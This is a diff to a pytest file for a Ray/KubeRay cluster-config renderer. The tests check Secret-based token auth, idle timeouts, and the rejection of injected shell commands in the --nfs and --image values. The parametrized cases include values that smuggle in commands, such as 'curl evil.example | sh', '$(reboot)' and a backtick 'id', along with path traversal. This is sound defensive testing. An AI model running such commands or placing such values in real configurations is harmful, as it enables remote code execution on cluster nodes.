@@ -1,10 +1,12 @@
 """`heterps cluster render`: the KubeRay manifest and the `ray up` config of a cluster config, checked
-structurally, and the `ray up` one by Ray's own validator (offline: schema and the AWS defaults)."""
+structurally, and the `ray up` one by Ray's own validator (offline: schema and the AWS defaults); token
+authentication from a Secret, idle timeouts, and a `--nfs` that cannot inject a shell command."""
 
 from __future__ import annotations
 
 import copy
 import json
+import shlex
 from pathlib import Path
 
 import pytest
@@ -12,7 +14,7 @@ import yaml
 
 from heterps_ray.cli import main
 from heterps_ray.config import load_cluster
-from heterps_ray.deploy.render import SHARED_MOUNT, kuberay_manifest, ray_up_config
+from heterps_ray.deploy.render import IDLE_TIMEOUT_S, SHARED_MOUNT, kuberay_manifest, ray_up_config
 from heterps_ray.errors import ConfigError
 
 REPO = Path(__file__).resolve().parents[1]
@@ -51,12 +53,44 @@ def test_kuberay_manifest_has_one_worker_group_per_resource_type(tmp_path, capsy
         if rtype.device == "cuda":
             assert group["rayStartParams"]["num-gpus"] == "1"
             assert container["resources"]["limits"]["nvidia.com/gpu"] == "1"
+            assert container["resources"]["requests"]["nvidia.com/gpu"] == "1"  # the pod lands on a GPU node
             assert container["image"].endswith("-gpu")
         else:
             assert "num-gpus" not in group["rayStartParams"] and "nvidia.com/gpu" not in container["resources"]["limits"]
     claims = {v["persistentVolumeClaim"]["claimName"] for g in [spec["headGroupSpec"], *groups.values()]
               for v in g["template"]["spec"]["volumes"]}  # fmt: skip
     assert claims == {"cloud-gpu-shared"}  # one shared volume: data and output_dir on every pod
+    assert spec["autoscalerOptions"]["idleTimeoutSeconds"] == IDLE_TIMEOUT_S
+
+
+def _env(container_or_options: dict) -> dict:
+    return {e["name"]: e.get("value", e.get("valueFrom")) for e in container_or_options["env"]}
+
+
+def test_kuberay_manifest_turns_on_token_auth_from_a_secret(tmp_path, capsys):
+    out = tmp_path / "raycluster.yaml"
+    argv = ["cluster", "render", str(CLOUD), "--kuberay", "-o", str(out), "--auth-secret", "ray-token.prod"]
+    assert main(argv + ["--idle-timeout", "120"]) == 0
+    text = out.read_text()
+    spec = yaml.safe_load(text)["spec"]
+    expected = {"RAY_AUTH_MODE": "token",
+                "RAY_AUTH_TOKEN": {"secretKeyRef": {"name": "ray-token.prod", "key": "auth_token"}}}  # fmt: skip
+    pods = [spec["headGroupSpec"], *spec["workerGroupSpecs"]]
+    containers = [c for pod in pods for c in pod["template"]["spec"]["containers"]]
+    assert len(containers) == 5 and all(_env(c) == expected for c in containers)
+    assert _env(spec["autoscalerOptions"]) == expected  # the autoscaler sidecar talks to the GCS too
+    assert spec["autoscalerOptions"]["idleTimeoutSeconds"] == 120 and spec["enableInTreeAutoscaling"] is True
+    assert "&id" not in text  # plain YAML, no anchors a reader has to follow
+    # The header says what Secret to create, in the shape the manifest reads.
+    assert "#   kubectl create secret generic ray-token.prod --from-literal=auth_token=" in text
+    assert "#   stringData: {auth_token: <a long random string>}" in text
+    # The default Secret is named after the cluster; a name Kubernetes refuses is refused here.
+    head = kuberay_manifest(load_cluster(CLOUD))["spec"]["headGroupSpec"]["template"]["spec"]
+    assert _env(head["containers"][0])["RAY_AUTH_TOKEN"]["secretKeyRef"]["name"] == "cloud-gpu-ray-token"
+    assert main(["cluster", "render", str(CLOUD), "--kuberay", "--auth-secret", "Prod_Token"]) == 2
+    assert "field '--auth-secret'" in capsys.readouterr().err
+    with pytest.raises(ConfigError, match="--idle-timeout"):
+        kuberay_manifest(load_cluster(CLOUD), idle_timeout_s=-1)
 
 
 def test_fractional_cpus_round_up_and_names_become_kubernetes_names():
@@ -82,7 +116,9 @@ def test_ray_up_config_passes_rays_validator(tmp_path, capsys):
     assert nodes["t4"]["resources"] == {"CPU": 4, "GPU": 1, "t4": 1}
     assert nodes["cpu"]["resources"] == {"CPU": 8, "cpu": 1}
     assert nodes["a100"]["node_config"] == {"InstanceType": "p4d.24xlarge"}
-    assert [nodes[t]["max_workers"] for t in EC2] == [64, 16, 8, 8] and nodes["cpu"]["min_workers"] == 2
+    assert [nodes[t]["max_workers"] for t in EC2] == [64, 16, 8, 8]
+    assert [nodes[t]["min_workers"] for t in EC2] == [2, 0, 0, 0]  # the PS type from ps.min_shards, others 0
+    assert config["idle_timeout_minutes"] == IDLE_TIMEOUT_S // 60
     assert nodes["v100"]["labels"]["heterps.io/price-per-hour"] == "3.06"
     assert config["max_workers"] == 96
     assert any("mount -t nfs4 fs-1.efs.amazonaws.com:/ /mnt/heterps" in c for c in config["initialization_commands"])
@@ -101,3 +137,42 @@ def test_ray_up_without_an_instance_type_per_resource_type_exits_2(capsys):
     with pytest.raises(ConfigError, match="unknown"):
         ray_up_config(load_cluster(CLOUD), {**EC2, "h100": "p5.48xlarge"})
     assert main(["cluster", "render", str(CLOUD), "--ray-up", "--instance-type", "cpu"]) == 2
+
+
+def _ray_up(nfs: str, **kwargs) -> dict:
+    return ray_up_config(load_cluster(CLOUD), EC2, nfs=nfs, **kwargs)
+
+
+@pytest.mark.parametrize(
+    "nfs",
+    [
+        "fs-1.efs.amazonaws.com:/; curl evil.example | sh",  # a command after the export
+        "fs-1.efs.amazonaws.com:/$(reboot)",
+        "fs-1.efs.amazonaws.com:/`id`",
+        "host name:/export",
+        "fs-1;reboot:/export",
+        "fs-1.efs.amazonaws.com:/a/../../etc",
+        "fs-1.efs.amazonaws.com:relative/path",
+        "fs-1.efs.amazonaws.com",
+        ":/export",
+        "-o remount:/export",  # an option to mount, not a host
+        "fs-1.efs.amazonaws.com:/x\nreboot",
+        "",
+    ],
+)
+def test_an_nfs_value_that_is_not_host_and_export_exits_2(nfs, capsys):
+    with pytest.raises(ConfigError, match="field '--nfs'"):
+        _ray_up(nfs)
+    argv = ["cluster", "render", str(CLOUD), "--ray-up", f"--nfs={nfs}"]
+    assert main(argv + [f"--instance-type={name}={ec2}" for name, ec2 in EC2.items()]) == 2
+    assert "field '--nfs': expected HOST:/EXPORT" in capsys.readouterr().err
+
+
+def test_nfs_exports_are_quoted_into_the_mount_command_and_the_idle_timeout_is_kept():
+    for nfs in ("10.0.0.5:/exports/heterps", "nfs-1.internal:/srv/data_v2", "[fd00::5]:/export"):
+        (mount,) = [c for c in _ray_up(nfs)["initialization_commands"] if "mount -t nfs4" in c]
+        assert mount.endswith(f"sudo mount -t nfs4 {shlex.quote(nfs)} {SHARED_MOUNT}")
+        assert shlex.split(mount)[-2:] == [nfs, SHARED_MOUNT]  # one word, as written
+    assert _ray_up("10.0.0.5:/e", idle_timeout_s=90)["idle_timeout_minutes"] == 1.5
+    with pytest.raises(ConfigError, match="--image"):
+        ray_up_config(load_cluster(CLOUD), EC2, image="ray:latest; reboot")
